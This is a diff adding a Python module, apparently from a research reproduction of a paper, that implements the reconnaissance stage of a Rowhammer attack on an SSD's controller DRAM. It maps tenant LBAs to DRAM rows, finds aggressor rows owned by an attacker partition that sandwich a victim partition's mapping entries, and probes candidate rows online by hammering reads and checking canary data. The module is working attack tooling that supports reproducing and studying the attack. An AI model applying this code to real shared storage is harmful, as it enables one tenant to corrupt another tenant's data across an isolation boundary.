@@ -1,0 +1,194 @@
+"""Reconnaissance: find and validate aggressor/victim row triples.
+
+Two problems, per §4.2's "Hammering stage":
+
+* **Geometry** — find three physically adjacent DRAM rows (r-1, r, r+1)
+  where the outer two hold L2P entries of *attacker-reachable* LBAs and
+  the middle one holds entries of *victim-partition* LBAs.  Under a linear
+  L2P and a monotonic DRAM mapping that is impossible away from the
+  partition boundary; the controller's XOR/scrambled mapping is what
+  produces the paper's "32 sets of three vulnerable rows".
+* **Rowhammerability** — manufacturing variation decides which rows can
+  flip at all, "must be tested online and on the specific device": the
+  attacker hammers candidate triples whose victim row contains its *own*
+  LBAs and watches its own data for corruption.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import Dict, Iterable, List, Optional, Sequence, Tuple
+
+from repro.attack.profile import DeviceProfile
+from repro.errors import ReconError
+from repro.nvme.namespace import Namespace
+
+
+@dataclass
+class AttackTriple:
+    """Three adjacent rows usable for a double-sided attack."""
+
+    bank: int
+    victim_row: int
+    #: Attacker LBAs whose entries live in row victim_row - 1 / + 1.
+    left_lbas: List[int] = field(default_factory=list)
+    right_lbas: List[int] = field(default_factory=list)
+    #: Victim-partition LBAs whose entries live in the victim row.
+    victim_lbas: List[int] = field(default_factory=list)
+
+    @property
+    def aggressor_pair(self) -> Tuple[int, int]:
+        """One LBA per side, for the alternating read loop."""
+        return self.left_lbas[0], self.right_lbas[0]
+
+
+def map_rows(
+    profile: DeviceProfile, lbas: Iterable[int]
+) -> Dict[Tuple[int, int], List[int]]:
+    """Group LBAs by the (bank, row) their L2P entries occupy."""
+    rows: Dict[Tuple[int, int], List[int]] = {}
+    for lba in lbas:
+        rows.setdefault(profile.lba_to_row(lba), []).append(lba)
+    return rows
+
+
+def find_cross_partition_triples(
+    profile: DeviceProfile,
+    attacker_ns: Namespace,
+    victim_ns: Namespace,
+    limit: Optional[int] = None,
+) -> List[AttackTriple]:
+    """Triples whose aggressors are attacker LBAs sandwiching a victim row.
+
+    This is pure offline computation from the device profile — exactly
+    what the paper assumes the attacker does before touching the device.
+    """
+    attacker_rows = map_rows(
+        profile, range(attacker_ns.start_lba, attacker_ns.end_lba)
+    )
+    victim_rows = map_rows(profile, range(victim_ns.start_lba, victim_ns.end_lba))
+    triples: List[AttackTriple] = []
+    for (bank, row), victim_lbas in sorted(victim_rows.items()):
+        left = attacker_rows.get((bank, row - 1))
+        right = attacker_rows.get((bank, row + 1))
+        if not left or not right:
+            continue
+        triples.append(
+            AttackTriple(
+                bank=bank,
+                victim_row=row,
+                left_lbas=list(left),
+                right_lbas=list(right),
+                victim_lbas=list(victim_lbas),
+            )
+        )
+        if limit is not None and len(triples) >= limit:
+            break
+    return triples
+
+
+def find_self_test_triples(
+    profile: DeviceProfile, attacker_ns: Namespace, limit: Optional[int] = None
+) -> List[AttackTriple]:
+    """Probe candidates entirely inside the attacker's own partition.
+
+    The interleaved row remapping rarely leaves *three* consecutive
+    attacker-owned rows, so the self-test accepts one-sided candidates:
+    the victim (canary) row is attacker-owned and at least one adjacent
+    row is too.  The online probe then hammers single-sided — weaker, but
+    sufficient to identify clearly rowhammerable rows, which is all the
+    paper's "must be tested online" step needs.
+    """
+    rows = map_rows(profile, range(attacker_ns.start_lba, attacker_ns.end_lba))
+    triples: List[AttackTriple] = []
+    for (bank, row), middle in sorted(rows.items()):
+        left = rows.get((bank, row - 1)) or []
+        right = rows.get((bank, row + 1)) or []
+        if not left and not right:
+            continue
+        triples.append(
+            AttackTriple(
+                bank=bank,
+                victim_row=row,
+                left_lbas=list(left),
+                right_lbas=list(right),
+                victim_lbas=list(middle),
+            )
+        )
+        if limit is not None and len(triples) >= limit:
+            break
+    return triples
+
+
+def probe_rowhammerable_triples(
+    vm,
+    triples: Sequence[AttackTriple],
+    probe_ios: int = 500_000,
+    canaries_per_triple: Optional[int] = None,
+) -> List[AttackTriple]:
+    """Online test: which candidate triples actually flip bits?
+
+    For each triple (victim row inside the attacker's own partition), the
+    attacker writes known canary data to LBAs mapped in the victim row,
+    hammers the aggressor pair, and re-reads the canaries.  Any change —
+    different data, or data vanishing/moving — marks the triple (and by
+    model-consistency, its physical rows) rowhammerable.
+
+    ``vm`` must be a RAW-access tenant whose namespace contains all the
+    LBAs involved.
+    """
+    device = vm.blockdev
+    ns = device.namespace
+    hammerable: List[AttackTriple] = []
+    for index, triple in enumerate(triples):
+        # Cover the whole victim row by default: a flip corrupts *one*
+        # entry, and only canary-covered entries are detectable.
+        canaries = triple.victim_lbas
+        if canaries_per_triple is not None:
+            canaries = canaries[:canaries_per_triple]
+        if not canaries:
+            continue
+        expected = {}
+        for lba in canaries:
+            payload = (b"CANARY-%08d|" % lba) * (device.block_bytes // 16)
+            payload = payload[: device.block_bytes].ljust(device.block_bytes, b"\x00")
+            device.write_block(lba - ns.start_lba, payload)
+            expected[lba] = payload
+        if triple.left_lbas and triple.right_lbas:
+            pair = [lba - ns.start_lba for lba in triple.aggressor_pair]
+        else:
+            # Single-sided probe: alternate the one available aggressor
+            # with a far-away conflict LBA to force row reopening.
+            aggressor = (triple.left_lbas or triple.right_lbas)[0]
+            conflict = _far_conflict_lba(triples, index, aggressor)
+            pair = [aggressor - ns.start_lba, conflict - ns.start_lba]
+        vm.hammer_reads(pair, repeats=probe_ios // 2)
+        for lba, payload in expected.items():
+            seen = device.read_block(lba - ns.start_lba)
+            if seen != payload:
+                hammerable.append(triple)
+                break
+    return hammerable
+
+
+def _far_conflict_lba(
+    triples: Sequence[AttackTriple], index: int, aggressor: int
+) -> int:
+    """An attacker LBA whose row is far from the probed triple's rows."""
+    probe = triples[index]
+    for other in reversed(triples):
+        if abs(other.victim_row - probe.victim_row) > 3 or other.bank != probe.bank:
+            candidates = other.victim_lbas or other.left_lbas or other.right_lbas
+            if candidates:
+                return candidates[0]
+    # Degenerate layout: fall back to any other LBA of the same triple.
+    return probe.victim_lbas[-1] if probe.victim_lbas else aggressor
+
+
+def require_triples(triples: Sequence[AttackTriple], context: str) -> None:
+    """Raise a descriptive error when recon came up empty."""
+    if not triples:
+        raise ReconError(
+            "no usable aggressor/victim triples found (%s); the DRAM "
+            "mapping may be monotonic or the partitions too small" % context
+        )
